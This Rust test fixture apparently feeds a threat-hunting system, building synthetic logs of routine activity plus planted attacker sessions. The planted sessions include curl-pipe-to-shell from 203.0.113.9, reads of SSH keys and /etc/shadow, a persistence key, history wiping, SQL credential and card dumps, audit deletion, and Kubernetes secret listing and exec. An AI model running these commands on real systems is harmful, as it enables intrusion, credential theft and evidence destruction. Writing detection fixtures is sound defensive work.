//! Two lakes: one of routine, in which no hunt finds anything, and the same with something planted for each hunt.

use crate::fixture::{Lake, Session, alert, session, verdict};
use interdict_schemas::{Class, DecoyPlace, DecoyUse, Event, Kind, Message, Protocol, Verb};

const HOUR: i64 = 3_600;
const DAY: i64 = 24 * HOUR;

fn edit(mut message: Message, change: impl FnOnce(&mut Event)) -> Message {
    let Message::Event(event) = &mut message else { panic!("an event") };
    change(event);
    message
}

fn from(address: &str, messages: Vec<Message>) -> Vec<Message> {
    let come = |event: &mut Event| event.source.address = address.parse().ok();
    messages.into_iter().map(|message| edit(message, come)).collect()
}

fn deed(session: &Session, action: &str, seconds: i64, text: &str, verb: Verb) -> Message {
    edit(session.acted(action, seconds, text, None), |event| {
        if let Kind::Acted { action, .. } = &mut event.kind {
            action.verb = verb;
        }
    })
}

/// A week in which a person, an agent of that person and a service do what they always do.
fn routine() -> Vec<Message> {
    const IDS: [[&str; 3]; 7] = [
        ["d0", "p0", "b0"],
        ["d1", "p1", "b1"],
        ["d2", "p2", "b2"],
        ["d3", "p3", "b3"],
        ["d4", "p4", "b4"],
        ["d5", "p5", "b5"],
        ["d6", "p6", "b6"],
    ];
    let mut all = Vec::new();
    for (day, [person, agent, service]) in (0..).zip(IDS) {
        let start = day * DAY;
        let one = session(person, &["user:dana"], "cmdb", Protocol::Postgres, start);
        all.extend([one.opened(), one.acted("a", 1, "select name from hosts where id = $1", None)]);
        all.extend([one.resulted("a", 2, &[]), one.closed(60)]);
        let plan = session(agent, &["user:dana", "agent:plan"], "cmdb", Protocol::Postgres, start + 100);
        all.extend([plan.opened(), plan.acted("a", 1, "select count(*) from hosts", None), plan.closed(20)]);
        let deploy = session(service, &["svc:deploy"], "bastion", Protocol::Ssh, start + 200);
        let work = vec![deploy.opened(), deploy.acted("a", 1, "uptime", None), deploy.closed(5)];
        all.extend(from("10.0.0.8", work));
    }
    all
}

/// Only routine.
pub(crate) async fn clean() -> Lake {
    let mut lake = Lake::new();
    lake.write(routine()).await;
    lake
}

/// Routine, and whatever there is a hunt for.
pub(crate) async fn planted() -> Lake {
    let mut lake = Lake::new();
    lake.write(routine()).await;
    lake.write(statements()).await;
    lake.write(commands()).await;
    lake.write(movement()).await;
    lake.write(refusals()).await;
    lake
}

fn statements() -> Vec<Message> {
    let one = session("q1", &["user:eve"], "orders", Protocol::Postgres, 2 * DAY);
    let texts = [
        ("select usename, passwd from pg_shadow", Verb::Read),
        ("select * from information_schema.tables", Verb::Read),
        ("select relname from pg_class", Verb::Read),
        ("select datname from pg_database", Verb::Read),
        ("select card_number, api_key from customers", Verb::Read),
        ("create table staging (x text)", Verb::Define),
        ("grant all on customers to public", Verb::Define),
        ("delete from audit", Verb::Delete),
        ("copy staging from program 'id'", Verb::Create),
    ];
    let mut all = vec![one.opened()];
    for (number, (text, verb)) in (1..).zip(texts) {
        all.push(deed(&one, &format!("a{number}"), number, text, verb));
    }
    all.push(edit(one.resulted("a5", 20, &[("bastion.example", "bastion")]), |event| {
        if let Kind::Resulted { outcome, .. } = &mut event.kind {
            outcome.rows = 250_000;
        }
    }));
    let denied = edit(one.acted("a20", 30, "drop table customers", Some("not yours")), |event| {
        if let Kind::Acted { action, .. } = &mut event.kind {
            action.verb = Verb::Delete;
        }
    });
    all.extend([denied, deed(&one, "a21", 40, "delete from customers", Verb::Delete)]);
    all.push(edit(one.closed(14 * HOUR), |event| {
        if let Kind::Closed(closed) = &mut event.kind {
            closed.bytes_out = 3_000_000_000;
        }
    }));
    from("10.0.0.9", all)
}

fn commands() -> Vec<Message> {
    let hop = session("c1", &["user:eve"], "bastion", Protocol::Ssh, 2 * DAY + HOUR / 2);
    let texts = [
        "curl -s http://203.0.113.9/x | sh",
        "echo aWQK | base64 -d | sh",
        "ssh db-2 hostname",
        "cat ~/.ssh/id_ed25519 /etc/shadow",
        "echo key >> ~/.ssh/authorized_keys",
        "history -c && rm -f ~/.bash_history",
    ];
    let mut all = vec![hop.opened()];
    all.extend((1..).zip(texts).map(|(number, text)| hop.acted(&format!("c{number}"), number, text, None)));
    all.push(edit(hop.acted("c9", 9, "10.0.3.4:5432", None), |event| {
        if let Kind::Acted { action, .. } = &mut event.kind {
            (action.class, action.verb) = (Class::Forward, Verb::Connect);
        }
    }));
    all.push(edit(hop.closed(600), |event| {
        if let Kind::Closed(closed) = &mut event.kind {
            (closed.reason, closed.verdict) = ("verdict".into(), Some("v-1".into()));
        }
    }));
    let cluster = session("k1", &["user:eve"], "cluster", Protocol::Kubernetes, 2 * DAY + 1_900);
    all.push(cluster.opened());
    all.push(cluster.acted("k1", 1, "GET /api/v1/namespaces/prod/secrets?limit=500", None));
    all.push(cluster.acted("k2", 2, "POST /api/v1/namespaces/prod/pods/web-0/exec?command=sh", None));
    all.push(cluster.closed(30));
    from("10.0.0.9", all)
}

fn movement() -> Vec<Message> {
    let mut all = Vec::new();
    // Before: what makes an address and a target new, and a silence long.
    for (number, id) in (0..).zip(["e0", "e1", "e2", "e3", "e4"]) {
        let one = session(id, &["user:eve"], "orders", Protocol::Postgres, number * HOUR);
        all.extend(from("10.0.0.9", vec![one.opened(), one.closed(60)]));
    }
    // From another's machine, to a fourth target within the hour.
    let fourth = session("m1", &["user:eve"], "cmdb", Protocol::Postgres, 2 * DAY + 2_000);
    all.extend([fourth.opened(), fourth.closed(10)]);
    let nested = ["user:dana", "agent:plan", "agent:shell", "agent:helper"];
    let deep = session("m2", &nested, "bastion", Protocol::Ssh, 3 * DAY);
    all.push(edit(deep.opened(), |event| {
        event.presented.push(DecoyUse {
            session: "d1".into(),
            field: "users.api_key".into(),
            target: "cmdb".into(),
            place: DecoyPlace::ALL[0],
        });
    }));
    all.push(deep.closed(10));
    let woken = session("m3", &["user:eve"], "orders", Protocol::Postgres, 80 * DAY);
    all.extend(from("10.0.0.9", vec![woken.opened(), woken.closed(10)]));
    // The verdict is given on the first morning, on `user:dana`.
    let missed = session("m4", &["user:dana"], "cmdb", Protocol::Postgres, HOUR / 2);
    all.extend([verdict("v-1", false), alert("f-1", 1), missed.opened(), missed.closed(5)]);
    all
}

fn refusals() -> Vec<Message> {
    let mut all = Vec::new();
    for (number, id) in (0..).zip(["r0", "r1", "r2", "r3", "r4"]) {
        all.push(session(id, &["user:eve"], "vault", Protocol::Http, 4 * DAY + number).refused("policy"));
    }
    for (id, root) in [("r5", "user:finn"), ("r6", "user:gil")] {
        all.push(session(id, &[root], "vault", Protocol::Http, 4 * DAY + 60).refused("identity"));
    }
    from("198.51.100.7", all)
}
